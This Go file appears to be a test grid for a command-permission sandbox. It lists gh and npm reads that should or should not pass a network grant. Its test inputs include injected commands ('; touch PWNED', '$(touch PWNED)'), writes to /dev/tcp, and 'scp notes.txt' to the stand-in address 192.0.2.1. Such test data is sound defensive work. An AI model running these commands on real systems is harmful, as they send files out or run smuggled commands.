package grid

// ghReads are gh's reads in the grammar.
var ghReads = texts(
	"issue list", "issue status", "issue view", "pr checks", "pr diff", "pr list", "pr status", "pr view",
	"release list", "release view", "repo view", "run list", "run view", "workflow list", "workflow view",
)

// ghWords are the words that gh's reads take, and the same with a host or a
// number spoilt.
var ghWords = []Value{
	{Name: "none", Text: ""},
	{Name: "item", Text: " v1"},
	{Name: "repository", Text: " -R owner/name"},
	{Name: "limit", Text: " -L 5"},
	{Name: "state", Text: " -s closed"},
	{Name: "json", Text: " --json title"},
	{Name: "repository-host", Text: " -R 192.0.2.1/owner/name"},
	{Name: "limit-text", Text: " -L x"},
	{Name: "item-address", Text: " https://192.0.2.1/owner/name"},
}

// networkBeyond are forms of the same programs that no grant covers.
var networkBeyond = texts(
	"gh", "gh issue", "gh pr merge 1", "gh pr checkout 1", "gh api user", "gh api -X POST x",
	"gh alias set x y", "gh release create v2", "gh release download v1", "gh repo delete owner/name",
	"gh workflow run ci", "gh gist create notes.txt", "gh pr view --web 1", "gh issue list -R=owner/name",
	"gh issue list --repo owner/name", "gh issue list -L", "gh issue list --json", "gh issue list --jq .",
	"gh issue list --state closed", "gh --version", "gh -R owner/name issue list",
	"GH_HOST=192.0.2.1 gh issue list", "gh issue list | head -n 3", "cd src && gh pr list",
	"gh pr list; touch PWNED", "gh pr list -s open $(touch PWNED)", "npm view",
	"npm view left-pad --registry=http://192.0.2.1", "npm view left-pad --json", "npm view ../other",
	"npm view /outside", "npm view git://192.0.2.1/x.git", "npm view file:../other", "npm view left-pad@1.0.0",
	"npm run build", "npx x", "npm config get registry", "npm view left-pad | head -n 3", "npm view 1x",
	"npm view 'left-pad' version", "npm show left-pad;pwd",
)

var networkFamilies = []Family{
	{
		Name:    "gh-read",
		Reason:  "reads that need the network, with the grant, and the host that no grant covers",
		Command: "gh {{row}}{{words}}",
		Network: true,
		Axes:    []Axis{{"row", ghReads}, {"words", ghWords}},
	},
	{
		Name:    "npm-read",
		Reason:  "a package's name, and what npm takes for a folder, a file or an address instead",
		Command: "npm {{row}} {{package}}",
		Network: true,
		Axes: []Axis{
			{"row", texts("view", "show", "info")},
			{"package", texts("left-pad", "@scope/name", "left-pad version", "./src", "left-pad git:x")},
		},
	},
	{
		Name:    "network-ungranted",
		Reason:  "reads that need the network, without the grant",
		Command: "{{command}}",
		Axes: []Axis{{"command", texts(
			"gh issue list", "gh pr view 1", "gh repo view owner/name", "npm view left-pad",
			"pwd && gh pr list", "gh pr diff 1 | head -n 3", "npm info left-pad; pwd",
		)}},
	},
	{
		Name:    "network-beyond",
		Reason:  "what the grant does not cover",
		Command: "{{command}}",
		Network: true,
		Axes:    []Axis{{"command", networkBeyond}},
	},
	{
		Name:    "network-reach",
		Reason:  "commands that reach an address; none answers",
		Source:  "https://github.com/Gitlawb/openclaude/pull/787",
		Command: "{{command}}",
		Axes: []Axis{{"command", texts(
			"curl http://192.0.2.1/", "curl -o out.txt http://192.0.2.1/", "curl file:///outside/secret.txt",
			"wget http://192.0.2.1/", "ssh 192.0.2.1 true", "nc -z 192.0.2.1 80", "docker run alpine true",
			"pip download x", "cat </dev/tcp/192.0.2.1/80", "echo x >/dev/tcp/192.0.2.1/80",
			"echo x >/dev/udp/192.0.2.1/53", "exec 3<>/dev/tcp/192.0.2.1/80",
			"git fetch http://192.0.2.1/x.git", "git clone http://192.0.2.1/x.git new",
			"git archive --remote=git://192.0.2.1/x HEAD", "git ls-remote git://192.0.2.1/x.git",
			"ping -c 1 192.0.2.1", "getent hosts example.com", "dig example.com",
			"python3 -c \"import urllib.request; urllib.request.urlopen('http://192.0.2.1/', timeout=1)\"",
			"perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"192.0.2.1:80\")'",
			"gawk 'BEGIN { s = \"/inet/tcp/0/192.0.2.1/80\"; print \"x\" |& s }'",
			"bash -c 'echo x >/dev/tcp/192.0.2.1/80'", "rsync 192.0.2.1::x .", "scp notes.txt 192.0.2.1:",
			"ip addr",
		)}},
	},
}
